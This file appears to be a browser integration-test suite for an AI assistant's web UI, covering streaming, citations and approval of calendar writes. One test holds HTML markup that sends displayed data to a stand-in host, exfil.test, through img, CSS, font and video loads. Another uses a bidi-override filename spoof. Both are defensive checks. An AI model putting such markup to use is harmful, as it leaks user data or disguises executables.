// The web UI in a real browser: Debian's headless Chromium driven by playwright-core against a
// running `affordance serve` (replay provider, paced like a model). Ask, see streamed text, a
// connector call with its truth badges and a painted surface; reload mid-stream and see the turn
// resume; screenshots at laptop and phone widths.
//   node tests/integration/server/browser.test.mjs build/affordance /usr/bin/chromium OUT_DIR
import assert from 'node:assert/strict';
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { mkdirSync } from 'node:fs';
import { createServer } from 'node:http';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import test from 'node:test';
import { root, startServer } from './serve.mjs';

const require = createRequire(join(root, 'tools/package.json'));
const { chromium } = require('playwright-core');
const [binary = join(root, 'build/affordance'), executablePath = '/usr/bin/chromium', shots = join(root, 'build/screenshots')] =
  process.argv.slice(2);
mkdirSync(shots, { recursive: true });

test('ask, stream, tool call, painted surface, resume after reload, two widths', async () => {
  const server = await startServer(binary, 'paced.json');
  assert.ok(server.info.web, 'the server serves the built web UI');
  const browser = await chromium.launch({ executablePath, headless: true, args: ['--no-sandbox', '--disable-gpu'] });
  try {
    const page = await browser.newPage({ viewport: { width: 1280, height: 860 } });
    const problems = [];
    page.on('pageerror', (e) => problems.push(e.message));
    // Every request the page makes is answered (issue 26: the favicon request was a 404).
    const missing = [];
    page.on('response', (r) => { if (r.status() >= 400) missing.push(`${r.status()} ${r.url()}`); });
    // Every acknowledgement the page posts (issue 44: one per state change, never two).
    const acks = [];
    page.on('request', (r) => {
      const m = /\/surfaces\/([^/]+)\/ack$/.exec(new URL(r.url()).pathname);
      if (m && r.method() === 'POST') acks.push(`${decodeURIComponent(m[1])} ${JSON.parse(r.postData() ?? '{}').state}`);
    });
    await page.goto(server.base + '/');
    await page.getByRole('button', { name: /New conversation/ }).first().click();
    const box = page.getByRole('textbox', { name: 'Message' });
    await box.fill('What is on my calendar next week?');
    await box.press('Enter');

    // Streamed text arrives before the turn ends.
    await page.locator('.message.assistant.streaming .prose').first().waitFor({ timeout: 30000 });
    // Seen while streaming: a non-empty prefix of the step's prose, then the whole of it.
    const early = (await page.locator('.message.assistant .prose').first().innerText()).trim();
    assert.ok(early.length > 0 && 'Let me check your calendar.'.startsWith(early), early);
    await page.getByText('Let me check your calendar.').waitFor({ timeout: 30000 });
    // The connector call with its truth state and data state.
    const tool = page.locator('[data-tool="RunConnectorCommand"]').first();
    await tool.locator('.badge').first().waitFor({ timeout: 30000 });
    const badges = await tool.locator('.badge').allInnerTexts();
    assert.ok(badges.includes('executed'), badges.join(','));
    assert.ok(badges.some((b) => ['live', 'mirrored', 'stale', 'empty', 'syncing', 'disconnected'].includes(b)), badges.join(','));
    // The surface is drawn, its Query() re-executed through /api/query with a matching receipt
    // (two-time grounding), and the server holds the paint and hydrate acknowledgements.
    await page.locator('.surface[data-state="hydrated"]').first().waitFor({ timeout: 30000 });
    assert.ok(await page.locator('.surface .ou-table').count() > 0, 'the surface renders its table');
    await page.locator('.turn-footer').first().waitFor({ timeout: 30000 });
    const threadId = new URLSearchParams((await page.evaluate(() => location.hash)).slice(1)).get('thread');
    const stored = (await server.json('GET', `/api/threads/${threadId}`)).body.messages[1];
    const surfaceId = stored.parts.find((p) => p.type === 'data-surface').data.surfaceId;
    assert.equal(stored.parts.find((p) => p.type === 'data-surface').data.state, 'hydrated');
    await page.waitForTimeout(500);  // anything a re-render would post late
    assert.deepEqual(acks, [`${surfaceId} painted`, `${surfaceId} hydrated`], 'one acknowledgement per state');
    await page.screenshot({ path: join(shots, 'web-laptop.png') });

    // Reload mid-stream: the turn resumes from the server and is shown once.
    await box.fill('And the week after?');
    await box.press('Enter');
    await page.locator('.message.assistant.streaming .prose').first().waitFor({ timeout: 30000 });
    await page.reload();
    await page.locator('.message.assistant').nth(1).waitFor({ timeout: 30000 });
    await page.locator('.turn-footer').nth(1).waitFor({ timeout: 60000 });
    assert.equal(await page.locator('.message.assistant').count(), 2, 'the resumed turn is not duplicated');
    assert.equal(await page.locator('.message.user').count(), 2);
    const resumedText = await page.locator('.message.assistant').nth(1).locator('.prose').allInnerTexts();
    assert.match(resumedText.join('\n'), /Next week has the events shown above/);
    const messages = (await server.json('GET', `/api/threads/${threadId}`)).body.messages;
    assert.equal(messages.length, 4, 'both turns are persisted');

    // Phone width: the same conversation, the thread list behind a menu.
    await page.setViewportSize({ width: 390, height: 844 });
    await page.waitForTimeout(400);  // the drawer's slide-out transition
    await page.evaluate(() => document.querySelector('.scroll')?.scrollTo(0, 0));
    await page.screenshot({ path: join(shots, 'web-phone.png') });
    await page.getByRole('button', { name: 'Threads' }).click();
    await page.locator('.drawer-open .sidebar .thread').first().waitFor();
    await page.waitForTimeout(400);
    assert.equal(await page.locator('.sidebar .thread-title').first().innerText(), 'What is on my calendar next week?');
    await page.screenshot({ path: join(shots, 'web-phone-threads.png') });
    await page.setViewportSize({ width: 1280, height: 860 });
    await page.evaluate(() => document.querySelector('.scroll')?.scrollTo(0, 0));
    await page.screenshot({ path: join(shots, 'web-laptop-top.png') });
    assert.deepEqual(problems, []);
    assert.deepEqual(missing, []);
  } finally {
    await browser.close();
    await server.stop();
  }
});

// The card a person decides on: what the write does, where, and each time in the person's own zone
// (the browser's: Europe/Berlin here, so 15:00 UTC reads 4:00 PM), before Approve and Deny.
// Opens the UI of `server` in `page`, starts a new conversation and sends `text`.
async function ask(page, server, text) {
  await page.goto(server.base + '/');
  await page.getByRole('button', { name: /New conversation/ }).first().click();
  const box = page.getByRole('textbox', { name: 'Message' });
  await box.fill(text);
  await box.press('Enter');
}

async function expectEffectCard(write) {
  const card = write.locator('.effect');
  await card.waitFor({ timeout: 30000 });
  const text = await card.innerText();
  assert.match(text, /Create event “Budget sync”/);
  assert.match(text, /in Team calendar \(calendar\.ics\)/);
  assert.match(text, /risk write/);
  assert.match(text, /Starts\s+Thursday, December 3, 2026 at 4:00\s?PM/);
  assert.match(text, /Ends\s+Thursday, December 3, 2026 at 5:00\s?PM/);
  assert.match(text, /Times in Europe\/Berlin/);
  assert.match(text, /expires .* \(in 7 days\)/);
  // The raw arguments stay one click away.
  await write.locator('.tool-head').click();
  assert.match(await write.locator('.tool-detail').innerText(), /"start": "2026-12-03T15:00:00Z"/);
  await write.locator('.tool-head').click();
}

// Each end state of a turn, made at the command line on the server's data folder, as the web UI
// shows it after a load: the same names and reasons as `run` and `run --json` (terminal_chat_test).
test('replay: every end state reads the same in the web UI as at the command line', async () => {
  const cliScript = (name) => join(root, 'tests/integration/cli/scripts', name);
  const threads = {};
  const run = (data, connectors, args) => {
    const r = spawnSync(binary, ['run', '--json', '--data', data, '--connectors', connectors, ...args], { encoding: 'utf8' });
    const chunks = r.stdout.trim().split('\n').filter(Boolean).map((l) => JSON.parse(l));
    return { chunks, thread: chunks.find((c) => c.type === 'start')?.messageMetadata?.threadId };
  };
  // Runs a slow call and sends `signal` once the model has started writing it.
  const interrupt = (data, connectors, signal) => new Promise((ok) => {
    const child = spawn(binary, ['run', '--json', '--data', data, '--connectors', connectors,
      '--provider', 'replay', '--script', cliScript('slow_call.json'), 'What is on this week?']);
    let out = '';
    let sent = false;
    child.stdout.on('data', (b) => {
      out += b;
      if (!sent && out.includes('tool-input-start')) { sent = true; child.kill(signal); }
    });
    child.once('exit', () => ok(JSON.parse(out.split('\n')[0]).messageMetadata.threadId));
  });
  const prepare = async (data, connectors) => {
    const replay = (script) => ['--provider', 'replay', '--script', cliScript(script)];
    threads.notRun = run(data, connectors, [...replay('stage_plus_other.json'), 'Add a budget sync']).thread;
    threads.malformed = run(data, connectors, [...replay('malformed.json'), 'What is on?']).thread;
    threads.provider = run(data, connectors, ['--provider', 'openai', '--base-url', 'http://127.0.0.1:9', 'What is on?']).thread;
    threads.cancelled = await interrupt(data, connectors, 'SIGINT');
    threads.killed = await interrupt(data, connectors, 'SIGKILL');
    // Approved, then the write grant revoked before it runs: refused at execution.
    const staged = run(data, connectors, [...replay('stage_event.json'), 'Add a budget sync on Saturday']);
    threads.refused = staged.thread;
    const approval = staged.chunks.find((c) => c.type === 'tool-approval-request').approvalId;
    const cli = (args) => execFileSync(binary, [...args, '--data', data, '--connectors', connectors], { encoding: 'utf8' });
    cli(['approvals', 'approve', approval]);
    for (const g of JSON.parse(cli(['grants', 'list', '--json'])).grants) {
      if (g.access === 'write') cli(['grants', 'revoke', g.id]);
    }
    run(data, connectors, [...replay('after_decision.json'), '--thread', threads.refused, 'Is it done?']);
  };
  const server = await startServer(binary, 'paced.json', [], { writable: true, prepare });
  const browser = await chromium.launch({ executablePath, headless: true, args: ['--no-sandbox', '--disable-gpu'] });
  try {
    const page = await browser.newPage({ viewport: { width: 1280, height: 860 } });
    const problems = [];
    page.on('pageerror', (e) => problems.push(e.message));
    const open = async (thread) => {
      await page.goto(`${server.base}/#thread=${thread}`);
      await page.reload();
      await page.locator('.turn-footer').first().waitFor({ timeout: 30000 });
    };
    const footers = () => page.locator('.turn-footer').allInnerTexts();

    await open(threads.notRun);
    await page.locator('[data-tool="ListComponents"] .tool-unrun', { hasText: /^Not run: not run: an earlier call of this step ended the turn/ }).waitFor({ timeout: 30000 });
    assert.deepEqual(await page.locator('[data-tool="ListComponents"] .badge').allInnerTexts(), ['parsed']);
    assert.match((await footers()).join('\n'), /awaiting[_ ]approval/);
    assert.equal(await page.getByRole('button', { name: 'Approve' }).count(), 1, 'the staged write still waits');

    await open(threads.malformed);
    assert.ok((await page.locator('.tool .badge').allInnerTexts()).includes('emitted'));
    await page.getByText('Sorry, that call was malformed.').waitFor({ timeout: 30000 });

    await open(threads.provider);
    assert.match((await footers()).join('\n'), /provider[_ ]error\s+model\.connect: could not connect to the model server/);

    await open(threads.cancelled);
    await page.locator('[data-tool="RunConnectorCommand"] .tool-unrun', { hasText: /^Cancelled/ }).waitFor({ timeout: 30000 });
    assert.match((await footers()).join('\n'), /cancelled/);
    assert.doesNotMatch(await page.locator('main').innerText(), /ended inside/);

    await open(threads.killed);
    assert.match((await footers()).join('\n'), /interrupted\s+harness\.interrupted: the process running this turn stopped before it finished/);

    await open(threads.refused);
    await page.getByText(/^Refused before it ran: authority\./).waitFor({ timeout: 30000 });
    assert.ok((await page.locator('[data-tool="invoke_mutation"] .badge').allInnerTexts()).includes('refused'));
    await page.getByText('The budget sync was approved but refused before it ran, so nothing changed.').waitFor({ timeout: 30000 });
    assert.ok(!server.calendar().includes('Budget sync'), 'a refused write runs nothing');
    assert.deepEqual(problems, []);
  } finally {
    await browser.close();
    await server.stop();
  }
});

// A fresh server on `script` and a laptop-sized page on it; `body(page, server)` runs, then no page
// error may have happened.
async function withPage(script, body, options = {}) {
  const server = await startServer(binary, script, [], options);
  const browser = await chromium.launch({ executablePath, headless: true, args: ['--no-sandbox', '--disable-gpu'] });
  try {
    const page = await browser.newPage({ viewport: { width: 1280, height: 860 } });
    const problems = [];
    page.on('pageerror', (e) => problems.push(e.message));
    // The UI works under its Content-Security-Policy: nothing it does is refused by it.
    page.on('console', (m) => { if (/Content.Security.Policy/i.test(m.text())) problems.push(m.text()); });
    await body(page, server);
    assert.deepEqual(problems, []);
  } finally {
    await browser.close();
    await server.stop();
  }
}

test('replay: an Html canvas shows its data filled in, in a sandboxed frame, with its mount', () => withPage('canvas.json', async (page, server) => {
    await ask(page, server, 'What is on this week?');
    await page.locator('.surface[data-state="hydrated"]').first().waitFor({ timeout: 30000 });
    const frame = page.frameLocator('.ou-html iframe[title="composition"]').first();
    await frame.locator('li.ev').first().waitFor({ timeout: 30000 });
    const rows = await frame.locator('li.ev').allInnerTexts();
    assert.ok(rows.includes('Team standup') && rows.includes('Design review'), rows.join(' | '));
    // Issue 44: {{events.rows.length}} is the number of rows, never an empty string.
    assert.equal(await frame.locator('p.count').innerText(), `${rows.length} events`);
    const markup = await frame.locator('main').innerHTML();
    assert.doesNotMatch(markup, /\{\{/, 'no placeholder is left');
    assert.equal(await page.locator('.ou-html iframe').getAttribute('sandbox'), '', 'no script, no same origin');
    await page.locator('.ou-html .ou-mount').getByText('Ask me to move any of these.').waitFor({ timeout: 30000 });
}));

// Issue 43, item 2: a canvas that would send the rows it shows to another host. A listener on
// loopback, reached as exfil.test through the browser's resolver, must receive nothing: the
// composed canvas is refused (external-url) and the page's CSP stops markup injected into the
// UI's own canvas frame and page. The same markup on a page without the policy does reach it (the
// listener and the markup work).
test('replay: an Html canvas cannot send what it shows to another host', async () => {
  const hits = [];
  const listener = createServer((req, res) => { hits.push(req.url); res.end('x'); });
  await new Promise((ok) => listener.listen(0, '127.0.0.1', ok));
  const port = listener.address().port;
  const server = await startServer(binary, 'canvas_exfil.json');
  const browser = await chromium.launch({ executablePath, headless: true,
    args: ['--no-sandbox', '--disable-gpu', `--host-resolver-rules=MAP exfil.test 127.0.0.1:${port}`] });
  const markup = "<p id='probe'>probe</p><img src='http://exfil.test/img?d=Team%20standup'>" +
    "<link rel='stylesheet' href='http://exfil.test/css'>" +
    "<style>@font-face{font-family:x;src:url(http://exfil.test/font)} p{font-family:x;" +
    "background:url(http://exfil.test/bg)}</style><video src='http://exfil.test/media'></video>";
  const settle = () => new Promise((ok) => setTimeout(ok, 1500));
  try {
    // The control: no policy, and the listener hears the markup.
    const bare = await browser.newPage();
    await bare.setContent(markup);
    await settle();
    assert.ok(hits.length > 0, 'the listener is reachable as exfil.test without the policy');
    await bare.close();
    hits.length = 0;

    const page = await browser.newPage({ viewport: { width: 1280, height: 860 } });
    const problems = [];
    page.on('pageerror', (e) => problems.push(e.message));
    await ask(page, server, 'What is on this week?');
    await page.getByText('That canvas was refused; here is your week in words.').waitFor({ timeout: 30000 });
    assert.equal(await page.locator('.ou-html iframe').count(), 0, 'the refused canvas is not shown');
    const policy = (await fetch(server.base + '/')).headers.get('content-security-policy');
    assert.match(policy, /default-src 'self'/);
    assert.match(policy, /img-src 'self' data:;/);
    // The policy's second wall: markup in a canvas frame as the UI makes it (sandboxed srcdoc, which
    // inherits the page's policy), and loads from the UI's page itself.
    await page.evaluate((html) => {
      const frame = document.createElement('iframe');
      frame.setAttribute('sandbox', '');
      frame.id = 'probe-frame';
      frame.srcdoc = html;
      document.body.append(frame);
      new Image().src = 'http://exfil.test/page-img';
      fetch('http://exfil.test/page-fetch').catch(() => {});
    }, markup);
    await page.frameLocator('#probe-frame').locator('#probe').waitFor({ timeout: 30000 });
    await settle();
    assert.deepEqual(hits, [], 'nothing reached the listener');
    assert.deepEqual(problems, []);
  } finally {
    await browser.close();
    await server.stop();
    listener.close();
  }
});

// Evidence chips: a cited read is a source with its freshness and rows, a citation that names no
// result is marked invalid, the footer counts the claims; the same after a reload.
test('replay: citations show as evidence chips, and the same after a reload', () => withPage('cited.json', async (page, server) => {
    await ask(page, server, 'What is on this week?');
    for (const reloaded of [false, true]) {
      if (reloaded) await page.reload();
      const source = page.locator('.cite[data-ref="r1"]').first();
      await source.waitFor({ timeout: 30000 });
      assert.equal(await source.getAttribute('data-class'), 'source');
      const title = await source.getAttribute('title');
      assert.match(title, /RunConnectorCommand · calendar · live/);
      assert.match(title, /\d+ rows/);
      const invalid = page.locator('.cite[data-ref="r7"]').first();
      assert.equal(await invalid.getAttribute('data-class'), 'invalid');
      assert.match(await invalid.getAttribute('title'), /no tool result/);
      const prose = await page.locator('.message.assistant .prose').last().innerText();
      assert.doesNotMatch(prose, /\[r1\]/, 'the citation is a chip, not its spelling');
      const footer = await page.locator('.turn-footer').last().innerText();
      assert.match(footer, /1 source/);
      assert.match(footer, /1 unresolved/);
      assert.match(footer, /1 inference/);
      assert.match(footer, /1 invalid citation/);
    }
    await page.screenshot({ path: join(shots, 'web-citations.png') });
}));

// Issue 43 item 9: a row "Budget sync \u202Egnp.exe" read as "Budget sync exe.png". Bidi and
// invisible characters (and C1 controls) show as ⟨U+XXXX⟩ on the card and in the thread title.
test('replay: bidi overrides and invisible characters show visibly on the card and the title', async () => {
  const server = await startServer(binary, 'hidden.json', [], { writable: true });
  const browser = await chromium.launch({ executablePath, headless: true, args: ['--no-sandbox', '--disable-gpu'] });
  try {
    const page = await browser.newPage({ viewport: { width: 1280, height: 860 }, timezoneId: 'Europe/Berlin', locale: 'en-US' });
    const problems = [];
    page.on('pageerror', (e) => problems.push(e.message));
    await ask(page, server, 'Add Budget sync \u202Egnp.exe\u2066 please');
    const write = page.locator('[data-tool="invoke_mutation"]').first();
    await write.getByRole('button', { name: 'Deny' }).waitFor({ timeout: 30000 });
    const summary = await write.locator('.effect-summary').innerText();
    assert.equal(summary, 'Create event “Budget sync ⟨U+202E⟩gnp.exe”');
    const fields = await write.locator('.effect-fields').innerText();
    assert.match(fields, /Room⟨U\+200B⟩ 9⟨U\+009B⟩31m/);
    assert.doesNotMatch(summary + fields, /[\u0080-\u009f\u200b\u202a-\u202e\u2066-\u2069]/);
    const title = await page.locator('.sidebar .thread-title').first().innerText();
    assert.match(title, /Add Budget sync ⟨U\+202E⟩gnp\.exe⟨U\+2066⟩ please/);
    assert.deepEqual(problems, []);
  } finally {
    await browser.close();
    await server.stop();
  }
});

// Issues 42 and 44 in the web: a local SQLite source is badged local (never "empty"); a fan-out
// with one failed detail read is badged partial and names the failed id, the claim citing it is
// unresolved and the weakest evidence is partial; a limited list says how long it is.
test('replay: a local source, a partial fan-out and a limited list read as they are', async () => {
  process.env.FIXTURE_PP_FAIL_IDS = '7';
  try {
    await withPage('partial.json', async (page, server) => {
      await ask(page, server, 'My notes and items?');
      await page.locator('.turn-footer').first().waitFor({ timeout: 30000 });
      for (const reloaded of [false, true]) {
        if (reloaded) {
          await page.reload();
          await page.locator('.turn-footer').first().waitFor({ timeout: 30000 });
        }
        const tools = page.locator('[data-tool="RunConnectorCommand"]');
        assert.equal(await tools.count(), 3);
        assert.deepEqual(await tools.nth(0).locator('.badge').allInnerTexts(), ['executed', 'local']);
        assert.deepEqual(await tools.nth(1).locator('.badge').allInnerTexts(), ['executed', 'partial']);
        assert.equal(await tools.nth(0).locator('.tool-served').count(), 0, 'a whole read needs no note');
        assert.equal(await tools.nth(1).locator('.tool-served').innerText(), '11 of 12 rows, 1 read failed: get_item id 7');
        assert.equal(await tools.nth(2).locator('.tool-served').innerText(), '5 of 12 rows, cut by the limit');
        const local = page.locator('.cite[data-ref="r1"]').first();
        assert.equal(await local.getAttribute('data-class'), 'source');
        assert.match(await local.getAttribute('title'), /notes · local · 2 rows/);
        const partial = page.locator('.cite[data-ref="r2"]').first();
        assert.equal(await partial.getAttribute('data-class'), 'unresolved');
        assert.match(await partial.getAttribute('title'), /the read is partial/);
        const footer = await page.locator('.turn-footer').last().innerText();
        assert.match(footer, /weakest evidence\s+partial/);
        assert.match(footer, /1 source/);
        assert.match(footer, /1 unresolved/);
        assert.doesNotMatch(await page.locator('.message.assistant').last().innerText(), /\bempty\b/);
      }
      await page.screenshot({ path: join(shots, 'web-partial.png') });
    }, { newcomer: true });
  } finally {
    delete process.env.FIXTURE_PP_FAIL_IDS;
  }
});

// Issue 42: a staged write whose write grant ends before anyone decides reads expired in the web
// (no Approve / Deny once it is due), and the next turn tells the model it expired: the call's
// result, its badge and the claim citing it say so, and nothing ran.
test('replay: a write whose grant ends before anyone decides reads expired, and the model is told', async () => {
  const server = await startServer(binary, 'write.json', [], { writable: true, writeExpiresIn: 15 });
  const browser = await chromium.launch({ executablePath, headless: true, args: ['--no-sandbox', '--disable-gpu'] });
  try {
    const page = await browser.newPage({ viewport: { width: 1280, height: 860 } });
    const problems = [];
    page.on('pageerror', (e) => problems.push(e.message));
    const before = server.calendar();
    await ask(page, server, 'Put a budget sync on Thursday at 15:00.');
    const write = page.locator('[data-tool="invoke_mutation"]').first();
    await write.getByRole('button', { name: 'Approve' }).waitFor({ timeout: 30000 });
    const threadId = new URLSearchParams((await page.evaluate(() => location.hash)).slice(1)).get('thread');
    const staged = (await server.json('GET', `/api/threads/${threadId}`)).body.messages[1];
    const expiresMs = staged.parts.find((p) => p.type === 'data-approval').data.expiresMs;
    assert.ok(expiresMs - Date.now() < 16000, 'the approval ends with its grant');
    await page.waitForTimeout(Math.max(0, expiresMs - Date.now()) + 500);
    await page.reload();
    await write.locator('[data-expired]').waitFor({ timeout: 30000 });
    assert.equal(await write.getByRole('button', { name: 'Approve' }).count(), 0, 'nothing left to decide');
    assert.match(await write.innerText(), /expired/);

    const box = page.getByRole('textbox', { name: 'Message' });
    await box.fill('Is it in?');
    await box.press('Enter');
    await page.getByText(/request expired before anyone decided, so nothing ran/).waitFor({ timeout: 30000 });
    await page.locator('.turn-footer').nth(1).waitFor({ timeout: 30000 });
    for (const reloaded of [false, true]) {
      if (reloaded) {
        await page.reload();
        await page.locator('.turn-footer').nth(1).waitFor({ timeout: 30000 });
      }
      const card = page.locator('[data-tool="invoke_mutation"]').first();
      await card.locator('[data-expired]').waitFor({ timeout: 30000 });
      if (reloaded) {
        // The stored call now holds what happened: truth expired, and why.
        await card.locator('.badge', { hasText: 'expired' }).waitFor({ timeout: 30000 });
        assert.match(await card.locator('[data-expired]').innerText(), /write grant that allowed it ended/);
      }
      const chip = page.locator('.message.assistant').last().locator('.cite[data-ref="r3"]').first();
      assert.equal(await chip.getAttribute('data-class'), 'unresolved');
      assert.match(await chip.getAttribute('title'), /expired before a person decided/);
    }
    assert.equal(server.calendar(), before, 'nothing ran');
    await page.screenshot({ path: join(shots, 'web-expired.png') });
    assert.deepEqual(problems, []);
  } finally {
    await browser.close();
    await server.stop();
  }
});

test('replay: a staged write shows its effect; denying runs nothing and says so', async () => {
  const server = await startServer(binary, 'write.json', [], { writable: true });
  const browser = await chromium.launch({ executablePath, headless: true, args: ['--no-sandbox', '--disable-gpu'] });
  try {
    const page = await browser.newPage({ viewport: { width: 1280, height: 860 }, timezoneId: 'Europe/Berlin', locale: 'en-US' });
    const problems = [];
    page.on('pageerror', (e) => problems.push(e.message));
    await ask(page, server, 'Put a budget sync on Thursday at 15:00.');
    const write = page.locator('[data-tool="invoke_mutation"]').first();
    await write.getByRole('button', { name: 'Deny' }).waitFor({ timeout: 30000 });
    await expectEffectCard(write);
    const before = server.calendar();
    await write.getByRole('button', { name: 'Deny' }).click();
    await write.getByText(/nothing was run|Nothing will run/i).first().waitFor({ timeout: 30000 });
    await write.locator('.badge', { hasText: 'denied' }).waitFor({ timeout: 30000 });
    assert.equal(server.calendar(), before, 'a denial writes nothing');
    assert.equal(await write.getByRole('button', { name: 'Approve' }).count(), 0, 'decided once');
    // The card stays with the decision: what was denied, without an expiry, also after a reload.
    await page.getByText(/You denied the budget sync, so nothing ran/).waitFor({ timeout: 30000 });
    for (const reloaded of [false, true]) {
      if (reloaded) {
        await page.reload();
        await page.locator('[data-tool="invoke_mutation"] .badge', { hasText: 'denied' }).first().waitFor({ timeout: 30000 });
      }
      const card = page.locator('[data-tool="invoke_mutation"] .effect.decided').first();
      await card.waitFor({ timeout: 30000 });
      const text = await card.innerText();
      assert.match(text, /Create event “Budget sync”/);
      assert.match(text, /Starts\s+Thursday, December 3, 2026 at 4:00\s?PM/);
      assert.doesNotMatch(text, /expires/);
      assert.match(text, /as decided\./);
      // "nothing ran [r3]" cites the denied write: its chip says unresolved, and why.
      const chip = page.locator('.cite[data-ref="r3"]').last();
      await chip.waitFor({ timeout: 30000 });
      assert.equal(await chip.getAttribute('data-class'), 'unresolved');
      assert.match(await chip.getAttribute('title'), /denied/);
      assert.match(await page.locator('.turn-footer').last().innerText(), /1 unresolved/);
    }
    assert.deepEqual(problems, []);
  } finally {
    await browser.close();
    await server.stop();
  }
});

test('replay: a staged write shows an approval card; approving runs it once and shows it verified', async () => {
  const server = await startServer(binary, 'write.json', [], { writable: true });
  const browser = await chromium.launch({ executablePath, headless: true, args: ['--no-sandbox', '--disable-gpu'] });
  try {
    const page = await browser.newPage({ viewport: { width: 1280, height: 860 }, timezoneId: 'Europe/Berlin', locale: 'en-US' });
    const problems = [];
    page.on('pageerror', (e) => problems.push(e.message));
    await ask(page, server, 'Put a budget sync on Thursday at 15:00.');

    const write = page.locator('[data-tool="invoke_mutation"]').first();
    const approve = write.getByRole('button', { name: 'Approve' });
    await approve.waitFor({ timeout: 30000 });
    await expectEffectCard(write);
    const staged = await write.locator('.badge').allInnerTexts();
    assert.ok(staged.includes('staged'), staged.join(','));
    const before = server.calendar();
    assert.ok(!before.includes('Budget sync'), 'staging ran nothing');

    // A reload keeps the card: the server reads the staged call back as approval-requested.
    await page.reload();
    await approve.waitFor({ timeout: 30000 });
    await expectEffectCard(write);
    await page.screenshot({ path: join(shots, 'web-approval.png') });

    await approve.click();
    await write.locator('.badge', { hasText: 'verified' }).waitFor({ timeout: 30000 });
    await page.getByText(/The budget sync is in your calendar/).waitFor({ timeout: 30000 });
    assert.equal(await write.getByRole('button', { name: 'Approve' }).count(), 0, 'decided once');
    assert.equal(server.calendar().split('SUMMARY:Budget sync').length - 1, 1, 'written once');
    await page.screenshot({ path: join(shots, 'web-approved.png') });

    assert.match(await write.locator('.effect.decided').innerText(), /Create event “Budget sync”/);
    // "is in your calendar [r3]" cites the verified write: an effect.
    const chip = page.locator('.cite[data-ref="r3"]').last();
    await chip.waitFor({ timeout: 30000 });
    assert.equal(await chip.getAttribute('data-class'), 'effect');
    assert.match(await chip.getAttribute('title'), /verified/);

    // Read back after a reload: still verified, no buttons, the decided card kept.
    await page.reload();
    await page.locator('[data-tool="invoke_mutation"] .badge', { hasText: 'verified' }).first().waitFor({ timeout: 30000 });
    assert.equal(await page.getByRole('button', { name: 'Approve' }).count(), 0);
    assert.match(await page.locator('[data-tool="invoke_mutation"] .effect.decided').first().innerText(), /Create event “Budget sync”/);
    assert.deepEqual(problems, []);
  } finally {
    await browser.close();
    await server.stop();
  }
});
